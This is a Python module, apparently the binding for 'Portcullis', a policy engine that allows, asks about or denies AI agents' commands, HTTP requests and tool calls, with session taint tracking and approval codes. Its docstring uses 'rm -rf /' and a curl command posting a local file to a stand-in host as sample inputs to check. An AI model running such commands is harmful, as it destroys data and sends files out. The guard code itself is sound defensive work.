"""Portcullis for Python: policy decisions for AI agents, over the C ABI.

    from portcullis import Engine

    with Engine.default() as engine:
        decision = engine.check_command("rm -rf /")
        print(decision.effect, decision.rule, decision.reason)

Every call goes through ``libportcullis`` (see ``_native`` for how it is
found), so decisions are the Rust library's, byte for byte: ``decide`` and
the ``check_*`` shortcuts return the full decision (effect, deciding rule,
reason, every matched rule). An engine may be used from many threads; the
GIL is released while the library decides.

Sessions make decisions depend on what the agent did earlier::

    from portcullis import Engine, Session

    with Engine.default() as engine, Session("agent-1") as session:
        engine.decide_in(session, {"command": "cat notes.txt"})
        d = engine.decide_in(session, {"command": "curl -d @notes.txt https://x.example/"})
        print(d.effect, d.reason, d.session)   # {"id", "step", "facts", "code", ...}
        state = session.to_json()              # keep it; Session.from_json(state) later
"""

import ctypes
import json
from dataclasses import dataclass, field
from typing import Any, Optional

from . import _native as _n

__all__ = [
    "Engine",
    "Decision",
    "Matched",
    "PolicyError",
    "PortcullisError",
    "Session",
    "SessionError",
    "version",
]


def version() -> str:
    """The library version."""
    return _n.version().decode()


class PortcullisError(Exception):
    """A call into the library failed; ``status`` is the C status code."""

    def __init__(self, message: str, status: int):
        super().__init__(message)
        self.message = message
        self.status = status


class PolicyError(PortcullisError):
    """A policy that does not compile. The message lists every problem with
    its rule, field, line and column, exactly as the Rust ``PolicyError``."""


class SessionError(PortcullisError):
    """A session state that cannot be read: not a session's JSON, or written
    by a newer version of Portcullis."""


@dataclass(frozen=True)
class Matched:
    """A rule that matched."""

    rule: str
    effect: str
    shadow: bool


@dataclass(frozen=True)
class Decision:
    """A decision: ``effect`` is ``"allow"``, ``"ask"`` or ``"deny"``."""

    effect: str
    rule: Optional[str]
    reason: str
    matched: tuple = ()
    source: Optional[str] = None
    kind: str = ""
    id: Any = None
    canonical: Optional[dict] = None
    command: Optional[dict] = None
    # For a decision made in a session: {"id", "step", and when present
    # "facts" (what made it stricter), "code" (an ask's approval code),
    # "approved" (the code whose approval allowed it)}.
    session: Optional[dict] = None
    raw: dict = field(default_factory=dict, compare=False, repr=False)

    @property
    def allowed(self) -> bool:
        return self.effect == "allow"

    @property
    def approval_code(self) -> Optional[str]:
        """The approval code of an ``ask`` made in a session, if any."""
        return (self.session or {}).get("code")

    @staticmethod
    def from_json(text: str) -> "Decision":
        raw = json.loads(text)
        return Decision(
            effect=raw["effect"],
            rule=raw.get("rule"),
            source=raw.get("source"),
            reason=raw.get("reason", raw.get("error", "")),
            matched=tuple(Matched(m["rule"], m["effect"], m["shadow"]) for m in raw.get("matched", [])),
            kind=raw.get("kind", ""),
            id=raw.get("id"),
            canonical=raw.get("canonical"),
            command=raw.get("command"),
            session=raw.get("session"),
            raw=raw,
        )


def _take_error(err: ctypes.c_void_p, status: int, cls=PortcullisError) -> PortcullisError:
    if err.value:
        n = ctypes.c_size_t()
        ptr = _n.error_message(err, ctypes.byref(n))
        message = ctypes.string_at(ptr, n.value).decode("utf-8", "replace")
        _n.error_free(err)
    else:
        message = _n.status_str(status).decode()
    return cls(message, status)


def _bytes(text: str) -> bytes:
    if not isinstance(text, str):
        raise TypeError(f"expected str, got {type(text).__name__}")
    return text.encode("utf-8")


def _take_buffer(buf: "_n.Buffer") -> Optional[str]:
    """The text of a buffer the library filled (None when empty); frees it."""
    try:
        return ctypes.string_at(buf.data, buf.len).decode() if buf.data else None
    finally:
        _n.buffer_free(ctypes.byref(buf))


def _now(now: Optional[int]) -> Optional[int]:
    if now is None:
        return None
    if isinstance(now, bool) or not isinstance(now, int):
        raise TypeError(f"now must be an int (Unix seconds), got {type(now).__name__}")
    if not 0 <= now < 1 << 64:
        raise ValueError("now must be between 0 and 2**64 - 1")
    return now


def _session_handle(session) -> ctypes.c_void_p:
    if not isinstance(session, Session):
        raise TypeError(f"expected a Session, got {type(session).__name__}")
    return session._live()


class Session:
    """An agent session: what the agent did so far, for the decisions made
    in it (``Engine.decide_in``). Use it as a context manager, or call
    ``close()``; it is also freed when garbage-collected. It belongs to no
    engine; calls on one session from several threads are serialized by the
    library. Keep it across processes as JSON (``to_json``/``from_json``)."""

    def __init__(self, id: str):
        data = _bytes(id)
        handle = ctypes.c_void_p()
        err = ctypes.c_void_p()
        status = _n.session_new(data, len(data), ctypes.byref(handle), ctypes.byref(err))
        if status != _n.STATUS_OK:
            raise _take_error(err, status)
        self._handle = handle

    @classmethod
    def from_json(cls, text: str) -> "Session":
        """Reads a session's state as ``to_json`` wrote it; raises
        ``SessionError`` when it is not one (never a silent fresh session)."""
        data = _bytes(text)
        handle = ctypes.c_void_p()
        err = ctypes.c_void_p()
        status = _n.session_from_json(data, len(data), ctypes.byref(handle), ctypes.byref(err))
        if status != _n.STATUS_OK:
            raise _take_error(err, status, SessionError if status == _n.STATUS_INVALID_SESSION else PortcullisError)
        session = cls.__new__(cls)
        session._handle = handle
        return session

    def _live(self) -> ctypes.c_void_p:
        if not getattr(self, "_handle", None):
            raise ValueError("the session is closed")
        return self._handle

    @property
    def id(self) -> str:
        """The session's id (an id longer than 256 bytes is kept as its hash)."""
        n = ctypes.c_size_t()
        ptr = _n.session_id(self._live(), ctypes.byref(n))
        return ctypes.string_at(ptr, n.value).decode()

    @property
    def step(self) -> int:
        """Decisions made in the session so far."""
        return _n.session_step(self._live())

    @property
    def taint(self) -> Optional[str]:
        """Why the session is tainted (a sensitive read, a secret seen, ...), or None."""
        buf = _n.Buffer()
        status = _n.session_taint(self._live(), ctypes.byref(buf))
        text = _take_buffer(buf)
        if status != _n.STATUS_OK:
            raise PortcullisError(_n.status_str(status).decode(), status)
        return text

    def to_json(self) -> str:
        """The session's state as JSON."""
        buf = _n.Buffer()
        status = _n.session_to_json(self._live(), ctypes.byref(buf))
        text = _take_buffer(buf)
        if status != _n.STATUS_OK:
            raise PortcullisError(_n.status_str(status).decode(), status)
        return text or ""

    def close(self) -> None:
        """Frees the session; idempotent."""
        handle, self._handle = getattr(self, "_handle", None), None
        if handle:
            _n.session_free(handle)

    def __enter__(self) -> "Session":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def __del__(self):
        try:
            self.close()
        except Exception:
            pass

    def __repr__(self) -> str:
        if not getattr(self, "_handle", None):
            return "Session(<closed>)"
        return f"Session(id={self.id!r}, step={self.step})"


class Engine:
    """A compiled policy. Use it as a context manager, or call ``close()``;
    it is also freed when garbage-collected."""

    def __init__(self, _handle: ctypes.c_void_p):
        self._handle = _handle

    @classmethod
    def _new(cls, fn, text: str) -> "Engine":
        data = _bytes(text)
        handle = ctypes.c_void_p()
        err = ctypes.c_void_p()
        status = fn(data, len(data), ctypes.byref(handle), ctypes.byref(err))
        if status != _n.STATUS_OK:
            raise _take_error(err, status, PolicyError if status == _n.STATUS_INVALID_POLICY else PortcullisError)
        return cls(handle)

    @classmethod
    def from_json(cls, text: str) -> "Engine":
        """Compiles a JSON policy; raises ``PolicyError``."""
        return cls._new(_n.engine_new_json, text)

    @classmethod
    def from_toml(cls, text: str) -> "Engine":
        """Compiles a TOML policy; raises ``PolicyError``."""
        return cls._new(_n.engine_new_toml, text)

    @classmethod
    def from_file(cls, path) -> "Engine":
        """Compiles the policy file at ``path`` (JSON or TOML by its
        extension), resolving relative ``extends`` from its directory."""
        return cls._new(_n.engine_new_file, str(path))

    @classmethod
    def default(cls) -> "Engine":
        """The embedded default policy."""
        handle = ctypes.c_void_p()
        err = ctypes.c_void_p()
        status = _n.engine_new_default(ctypes.byref(handle), ctypes.byref(err))
        if status != _n.STATUS_OK:
            raise _take_error(err, status, PolicyError)
        return cls(handle)

    def _live(self) -> ctypes.c_void_p:
        if not self._handle:
            raise ValueError("the engine is closed")
        return self._handle

    def swap(self, other: "Engine") -> None:
        """Atomically replaces this engine's policy with ``other``'s; ``other``
        is consumed (closed)."""
        handle = other._live()
        other._handle = None
        status = _n.engine_swap(self._live(), handle)
        if status != _n.STATUS_OK:
            raise PortcullisError(_n.status_str(status).decode(), status)

    def decide_json(self, request: str) -> str:
        """The decision JSON for a request JSON, exactly as the Rust API
        writes it. A request that cannot be read raises ``PortcullisError``."""
        data = _bytes(request)
        buf = _n.Buffer()
        err = ctypes.c_void_p()
        status = _n.decide_json(self._live(), data, len(data), ctypes.byref(buf), ctypes.byref(err))
        text = _take_buffer(buf) or ""
        if status != _n.STATUS_OK:
            raise _take_error(err, status)
        return text

    def decide_in_json(self, session: Session, request: str, now: Optional[int] = None) -> str:
        """The decision JSON for a request JSON decided in ``session``: made
        stricter by what the session did earlier, allowed where the action
        was approved, and recorded in the session. ``now`` is Unix seconds
        (default: the system clock). A request that cannot be read raises
        ``PortcullisError`` and records nothing."""
        data = _bytes(request)
        now = _now(now)
        buf = _n.Buffer()
        err = ctypes.c_void_p()
        engine, handle = self._live(), _session_handle(session)
        if now is None:
            status = _n.decide_in_json(engine, handle, data, len(data), ctypes.byref(buf), ctypes.byref(err))
        else:
            status = _n.decide_in_json_at(
                engine, handle, data, len(data), now, ctypes.byref(buf), ctypes.byref(err)
            )
        text = _take_buffer(buf) or ""
        if status != _n.STATUS_OK:
            raise _take_error(err, status)
        return text

    def decide_in(self, session: Session, request: dict, now: Optional[int] = None) -> Decision:
        """Decides a request (as ``decide`` takes it) in ``session``; the
        decision's ``session`` says which facts made it stricter and, for an
        ``ask``, its approval code."""
        return Decision.from_json(self.decide_in_json(session, json.dumps(request), now))

    def ran_in(
        self, session: Session, request: dict, output=None, now: Optional[int] = None
    ) -> Optional[str]:
        """Tells ``session`` the call ``request`` (a dict, or request JSON) ran: a pending ``ask`` of
        the same action is approved (the user said yes), and ``output``
        (``str`` or ``bytes``: what the call gave the agent) is scanned for
        secrets. Returns the approval code it approved, or None."""
        data = _bytes(json.dumps(request) if not isinstance(request, str) else request)
        if output is None:
            out = None
        elif isinstance(output, str):
            out = output.encode("utf-8")
        elif isinstance(output, (bytes, bytearray)):
            out = bytes(output)
        else:
            raise TypeError(f"output must be str or bytes, got {type(output).__name__}")
        now = _now(now)
        code = _n.Buffer()
        err = ctypes.c_void_p()
        engine, handle = self._live(), _session_handle(session)
        n_out = len(out) if out is not None else 0
        if now is None:
            status = _n.session_ran_json(
                engine, handle, data, len(data), out, n_out, ctypes.byref(code), ctypes.byref(err)
            )
        else:
            status = _n.session_ran_json_at(
                engine, handle, data, len(data), out, n_out, now, ctypes.byref(code), ctypes.byref(err)
            )
        text = _take_buffer(code)
        if status != _n.STATUS_OK:
            raise _take_error(err, status)
        return text

    def approve_in(self, session: Session, code: str, once: bool = False, now: Optional[int] = None) -> bool:
        """Approves the ``ask`` that carried approval ``code`` in ``session``:
        ``once`` (the next decision of that action uses it up) or until the
        policy's approval TTL ends. False when the session has no such ask."""
        data = _bytes(code)
        now = _now(now)
        approved = ctypes.c_bool(False)
        err = ctypes.c_void_p()
        engine, handle = self._live(), _session_handle(session)
        if now is None:
            status = _n.session_approve(
                engine, handle, data, len(data), bool(once), ctypes.byref(approved), ctypes.byref(err)
            )
        else:
            status = _n.session_approve_at(
                engine, handle, data, len(data), bool(once), now, ctypes.byref(approved), ctypes.byref(err)
            )
        if status != _n.STATUS_OK:
            raise _take_error(err, status)
        return approved.value

    def decide(self, request: dict) -> Decision:
        """Decides a request in the JSON wire format, given as a dict:
        ``{"command": ...}``, ``{"http": {...}}`` or ``{"tool": {...}}``,
        with optional ``id`` and ``principal``."""
        return Decision.from_json(self.decide_json(json.dumps(request)))

    def check_command(self, command: str, cwd: Optional[str] = None) -> Decision:
        """Decides a shell command line; ``cwd`` is the working directory it
        runs in (the project: relative paths resolve against it, and its own
        files are project files even under a protected tree)."""
        request: dict = {"command": command}
        if cwd is not None:
            request["cwd"] = cwd
        return self.decide(request)

    def check_url(self, url: str, method: str = "GET") -> Decision:
        """Decides an HTTP request."""
        return self.decide({"http": {"method": method, "url": url}})

    def check_tool(self, name: str, arguments: Any = None) -> Decision:
        """Decides a tool call."""
        tool = {"name": name}
        if arguments is not None:
            tool["arguments"] = arguments
        return self.decide({"tool": tool})

    def effect_of_command(self, command: str) -> str:
        """Only the effect of a command, through the allocation-free C fast
        path (no JSON): for hot loops."""
        data = _bytes(command)
        out = _n.DecisionStruct()
        _n.check_command(self._live(), data, len(data), ctypes.byref(out))
        return _n.EFFECTS.get(out.effect, "deny")

    def close(self) -> None:
        """Frees the engine; idempotent."""
        handle, self._handle = self._handle, None
        if handle:
            _n.engine_free(handle)

    def __enter__(self) -> "Engine":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def __del__(self):
        try:
            self.close()
        except Exception:
            pass
